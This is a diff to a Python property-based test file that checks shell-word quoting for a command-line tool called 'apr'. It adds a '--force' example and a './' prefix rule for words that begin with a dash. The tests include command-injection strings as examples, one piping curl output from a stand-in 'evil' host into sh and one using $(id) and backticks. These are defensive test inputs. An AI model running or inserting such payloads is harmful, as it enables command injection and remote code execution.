@@ -23,7 +23,7 @@ BEFORE_A_WORD = re.compile(
     r"|corpus|output|content-field|model|architecture)|(?<!\S)-o) $"
 )
 # Words of apr itself, none of a file or a path.
-OWN_WORDS = {"architecture.model_type", "nearest[0]"}
+OWN_WORDS = {"architecture.model_type", "nearest[0]", "TIE_FLAG"}
 
 
 def _texts() -> list[tuple[str, ast.JoinedStr]]:
@@ -63,9 +63,10 @@ def test_every_command_in_a_message_quotes_its_paths_and_names() -> None:
 @given(st.text(st.characters(exclude_categories=["Cs", "Cc"]), max_size=40))
 @example("x';curl evil|sh;'")
 @example("m $(id) `id`\\")
+@example("--force")
 def test_a_word_is_one_word_of_the_shell(text: str) -> None:
     if text == escape_control(text):
-        assert shlex.split(f"apr {shell_word(text)}") == ["apr", text]
+        assert shlex.split(f"apr {shell_word(text)}") == ["apr", f"./{text}" if text.startswith("-") else text]
         assert shlex.split(f"apr {shell_word(text, is_quoted=True)}") == ["apr", text]
     assert "\n" not in shell_word(text)
 
